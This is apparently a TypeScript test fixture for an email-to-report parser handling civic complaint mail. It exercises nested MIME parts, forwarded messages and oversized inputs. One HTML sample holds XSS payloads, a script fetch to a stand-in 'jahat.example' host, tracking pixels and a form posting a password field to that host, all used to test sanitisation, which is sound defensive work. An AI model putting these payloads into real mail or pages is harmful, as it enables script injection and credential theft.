import { base64, type Hard, letter, multipart, parts, pngs } from './letter.ts'

/** Letters inside letters, and the ways a mail program packs words and pictures. */

const plain = 'Content-Type: text/plain; charset=utf-8'
const html = 'Content-Type: text/html; charset=utf-8'
const picture = (n: 0 | 1 | 2, ...head: string[]): [string, string] => [
  ['Content-Type: image/png', 'Content-Transfer-Encoding: base64', ...head].join('\r\n'),
  base64(Buffer.from(pngs[n], 'base64')),
]

const deep = (levels: number, inside: string): string =>
  Array.from({ length: levels }, (_, n) => levels - n).reduce(
    (within, n) => `${multipart('mixed', `d${n}`)}\r\n\r\n--d${n}\r\n${within}\r\n--d${n}--\r\n`,
    `${plain}\r\n\r\n${inside}`,
  )
const nested = (levels: number): Buffer => {
  const [head = '', ...rest] = deep(levels, 'Gorong-gorong runtuh di Jalan Cempaka.').split('\r\n\r\n')
  return letter(['Subject: Gorong-gorong runtuh', head], rest.join('\r\n\r\n'))
}

export const active = `<html><head><base href="https://jahat.example/"><meta http-equiv="refresh" content="0;url=https://jahat.example/">
<style>@import url(https://jahat.example/a.css); p{background:url(https://jahat.example/b.png)}</style></head>
<body onload="alert(1)"><p>Air PDAM keruh di Perumahan Griya Asri.</p><script>fetch('https://jahat.example/')</script>
<svg onload="alert(2)"><a xlink:href="javascript:alert(3)"><text>gambar</text></a></svg>
<img src="https://jahat.example/lacak.gif?id=7" width="1" height="1"><img src="data:image/svg+xml,<svg onload=alert(4)>">
<form action="https://jahat.example/curi"><input name="sandi"></form><iframe src="https://jahat.example/"></iframe>
<p>Sudah tiga hari.</p></body></html>`

export const shapes: readonly Hard[] = [
  {
    what: 'alternatives: the plain words are taken',
    raw: letter(
      ['Subject: Sampah menumpuk', multipart('alternative', 'a')],
      parts('a', [plain, 'Sampah di TPS Jalan Nangka belum diangkut.'], [html, '<p>Versi <b>HTML</b></p>']),
    ),
    becomes: { is: 'report', title: 'Sampah menumpuk', says: ['belum diangkut'], never: /HTML/ },
  },
  {
    what: 'alternatives with an empty plain part',
    raw: letter(
      ['Subject: Sampah menumpuk', multipart('alternative', 'a')],
      parts('a', [plain, ' '], [html, '<p>TPS <b>Jalan Nangka</b> penuh.</p>']),
    ),
    becomes: { is: 'report', title: 'Sampah menumpuk', says: ['TPS Jalan Nangka penuh.'] },
  },
  {
    what: 'a picture among the words (cid)',
    raw: letter(
      ['Subject: Trotoar pecah', multipart('related', 'r')],
      parts(
        'r',
        [html, '<p>Trotoar pecah, lihat foto.</p><img src="cid:foto@1">'],
        picture(0, 'Content-ID: <foto@1>', 'Content-Disposition: inline; filename="foto.png"'),
      ),
    ),
    becomes: { is: 'report', title: 'Trotoar pecah', says: ['lihat foto'], files: 1 },
  },
  {
    what: 'mixed, related and alternative in one another',
    raw: letter(
      ['Subject: Pohon tumbang', multipart('mixed', 'm')],
      parts(
        'm',
        [
          multipart('related', 'r'),
          parts(
            'r',
            [multipart('alternative', 'a'), parts('a', [plain, 'Pohon menutup Jalan Anggrek.'], [html, '<p>x</p>'])],
            picture(0, 'Content-ID: <1>'),
          ),
        ],
        picture(1, 'Content-Disposition: attachment; filename=pohon.png'),
      ),
    ),
    becomes: { is: 'report', title: 'Pohon tumbang', says: ['Pohon menutup Jalan Anggrek.'], files: 2 },
  },
  {
    what: 'a letter that is forwarded whole (message/rfc822)',
    raw: letter(
      ['Subject: Fwd: Jembatan gantung', multipart('mixed', 'm')],
      parts(
        'm',
        [plain, 'Mohon ditindaklanjuti, surat tetangga saya.'],
        [
          'Content-Type: message/rfc822',
          `From: Budi <budi@lain.example>\r\nSubject: Jembatan\r\n${plain}\r\n\r\nTali jembatan gantung Cisadane putus.`,
        ],
      ),
    ),
    becomes: { is: 'report', title: 'Jembatan gantung', says: ['tetangga saya', 'Tali jembatan gantung'] },
  },
  {
    what: 'twenty levels of parts',
    raw: nested(20),
    becomes: { is: 'report', title: 'Gorong-gorong runtuh', says: ['Jalan Cempaka'] },
  },
  { what: 'five thousand levels of parts', raw: nested(5000), becomes: { is: 'parked', reason: 'unreadable' } },
  {
    what: 'two hundred letters in letters',
    raw: letter(
      ['Subject: Boneka', 'Content-Type: message/rfc822'],
      `${'Content-Type: message/rfc822\r\n\r\n'.repeat(200)}isi`,
    ),
    becomes: { is: 'report', title: 'Boneka' },
  },
  {
    what: 'a boundary that never comes',
    raw: letter(['Subject: Halte roboh', multipart('mixed', 'hilang')], 'Halte depan RSUD roboh.'),
    becomes: { is: 'report', title: 'Halte roboh' },
  },
  {
    what: 'parts without an end',
    raw: letter(['Subject: Halte roboh', multipart('mixed', 'b')], `--b\r\n${plain}\r\n\r\nHalte depan RSUD roboh.`),
    becomes: { is: 'report', title: 'Halte roboh', says: ['depan RSUD'] },
  },
  {
    what: 'HTML alone, with everything that acts or calls home',
    raw: letter(['Subject: Air keruh', html], active),
    becomes: {
      is: 'report',
      title: 'Air keruh',
      says: ['Air PDAM keruh di Perumahan Griya Asri.', 'Sudah tiga hari.'],
      never: /<|jahat\.example|alert|fetch|@import|javascript/,
    },
  },
  {
    what: 'HTML whose words are hidden in comments and entities',
    raw: letter(
      ['Subject: Air keruh', html],
      '<p>Air&nbsp;&lt;keruh&gt;<!-- <script>x</script> --> &#65;&#x42;&#0;&#x202e;</p>',
    ),
    becomes: { is: 'report', title: 'Air keruh', says: ['AB'], never: /script/ },
  },
  {
    what: 'HTML of a hundred thousand open tags',
    raw: letter(['Subject: Air keruh', html], `${'<div>'.repeat(100_000)}Air keruh di RW 02`),
    becomes: { is: 'report', title: 'Air keruh' },
  },
  {
    what: 'three hundred attachments',
    raw: letter(
      ['Subject: Foto', multipart('mixed', 'b')],
      parts(
        'b',
        ...Array.from({ length: 300 }, (_, n) => [`Content-Disposition: attachment; filename=f${n}.txt`, 'x'] as const),
      ),
    ),
    becomes: { is: 'parked', reason: 'unreadable' },
  },
]
